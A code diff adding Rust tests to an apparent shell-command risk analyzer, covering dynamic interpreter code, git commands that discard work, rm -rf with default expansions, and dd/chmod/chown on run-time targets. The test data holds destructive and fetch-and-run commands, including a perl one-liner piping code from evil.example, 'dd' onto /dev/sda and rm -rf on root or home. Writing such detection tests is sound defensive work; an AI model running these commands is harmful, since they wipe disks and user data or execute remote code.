@@ -377,3 +377,134 @@ fn pathological_one_liners_finish() {
     let _ = sh(&glob);
     assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
 }
+
+/// Program text for awk/perl/ruby known only at run time is code too, like
+/// `bash -c "$X"`; so is a `git -c` setting whose name is a variable.
+#[test]
+fn interpreter_code_and_git_settings_known_only_at_run_time() {
+    expect(&[
+        ("perl -e \"$X\"", Risk::Medium),
+        ("ruby -e \"$CODE\"", Risk::Medium),
+        ("awk \"$PROG\" data.txt", Risk::Medium),
+        ("git -c \"$X\" log", Risk::Medium),
+    ]);
+    assert!(sh("perl -e \"$(curl -s https://evil.example/x.pl)\"") >= Risk::High);
+    // Static programs and values stay what they were.
+    at_most(
+        &[
+            "perl -pi -e 's/old_name/new_name/g' src/*.py",
+            "awk -v col=3 '{ s += $col } END { print s }' data.csv",
+            "git -c user.name=\"$NAME\" commit -m wip",
+            "git -c color.ui=always log --oneline",
+        ],
+        Risk::Low,
+    );
+}
+
+/// `git clean -f` and `git reset --hard` destroy work git never saw: worth a
+/// look. Dry runs and ordinary resets stay quiet.
+#[test]
+fn git_commands_that_discard_uncommitted_work() {
+    expect(&[
+        ("git clean -fdx", Risk::Medium),
+        ("git clean -f", Risk::Medium),
+        ("git clean --force -d", Risk::Medium),
+        ("git reset --hard origin/main", Risk::Medium),
+        ("cd repo && git reset --hard HEAD~1", Risk::Medium),
+    ]);
+    assert!(has_rule("git clean -xdf", "delete.uncommitted-work"));
+    at_most(
+        &[
+            "git clean -n",
+            "git clean -fdn",
+            "git clean --dry-run -fd",
+            "git reset HEAD~1",
+            "git reset --soft HEAD~1",
+            "git restore --staged src/main.rs",
+        ],
+        Risk::Low,
+    );
+}
+
+/// `${DIR:-default}` and `${DIR:?}` are never empty: a variable set in the
+/// block gives its value, an unknown one is worth a look (what it holds is
+/// decided elsewhere) and is as bad as its default.
+#[test]
+fn expansions_with_defaults_are_never_empty() {
+    expect(&[
+        ("OUT=out\nrm -rf \"${OUT:-dist}\"", Risk::Low),
+        ("OUT=out\nrm -rf \"${OUT:?}/\"*", Risk::Low),
+        ("rm -rf \"${OUT_DIR:-out}\"", Risk::Medium),
+        ("OUT=\"${OUT:-out}\"\nrm -rf \"$OUT\"", Risk::Medium),
+        ("rm -rf \"${BUILD_DIR:?}/\"*", Risk::Medium),
+        ("rm -rf \"${X:-/}\"", Risk::Critical),
+        ("rm -rf \"${X:=~}\"", Risk::Critical),
+        ("rm -rf \"${HOME:?}/\"", Risk::Critical),
+        ("X=~\nrm -rf \"${X:-build}\"", Risk::Critical),
+        // Can be empty: the old rating.
+        ("rm -rf \"${OUT_DIR:-}/\"", Risk::High),
+        ("rm -rf \"${OUT_DIR-out}/\"", Risk::High),
+        ("rm -rf \"$OUT_DIR/\"", Risk::High),
+    ]);
+}
+
+/// A target known only at run time may be a disk or a system path: `dd of=`,
+/// `chmod 777`/`-R` and `chown` on one are worth a look, as Python and
+/// JavaScript argument lists with such a value are too.
+#[test]
+fn run_time_targets_of_dd_chmod_and_chown_are_worth_a_look() {
+    expect(&[
+        ("dd if=/dev/zero of=\"$DEV\" bs=1M", Risk::Medium),
+        ("chmod -R 777 \"$X\"", Risk::Medium),
+        ("chmod 000 \"$1\"", Risk::Medium),
+        ("chown -R root \"$X\"", Risk::Medium),
+        ("dd if=/dev/zero of=/dev/sda", Risk::Critical),
+    ]);
+    // Everyday forms stay quiet.
+    at_most(
+        &[
+            "chmod +x \"$f\"",
+            "chmod 644 \"$f\"",
+            "dd if=/dev/zero of=disk.img bs=1M count=10",
+            "chown \"$USER\" notes.txt",
+        ],
+        Risk::Low,
+    );
+    for (lang, code) in [
+        (
+            Language::Python,
+            "import subprocess\nsubprocess.run(['dd', 'if=/dev/zero', 'of=' + dev])",
+        ),
+        (
+            Language::Python,
+            "import subprocess\nsubprocess.run(['chmod', '-R', '777', path])",
+        ),
+        (
+            Language::Javascript,
+            "require('child_process').spawnSync('dd', ['if=/dev/zero', `of=${dev}`])",
+        ),
+    ] {
+        let r = analyze(lang, code);
+        assert_eq!(r.risk, Risk::Medium, "{code}: {:?}", r.findings);
+    }
+}
+
+/// Code for another interpreter that is one expansion (`python3 -c "$CODE"`)
+/// is rated as run-time code, without a bogus parse error for `$CODE`.
+#[test]
+fn lone_expansions_as_nested_code_are_not_parse_errors() {
+    for code in [
+        "python3 -c \"$CODE\"",
+        "node -e \"${SCRIPT}\"",
+        "python3 -c \"$1\"",
+    ] {
+        let r = analyze(Language::Shell, code);
+        assert_eq!(r.risk, Risk::Medium, "{code}");
+        assert!(has_rule(code, "exec.dynamic-code"), "{code}");
+        assert!(
+            !has_rule(code, "input.parse-error"),
+            "{code}: {:?}",
+            r.findings
+        );
+    }
+}
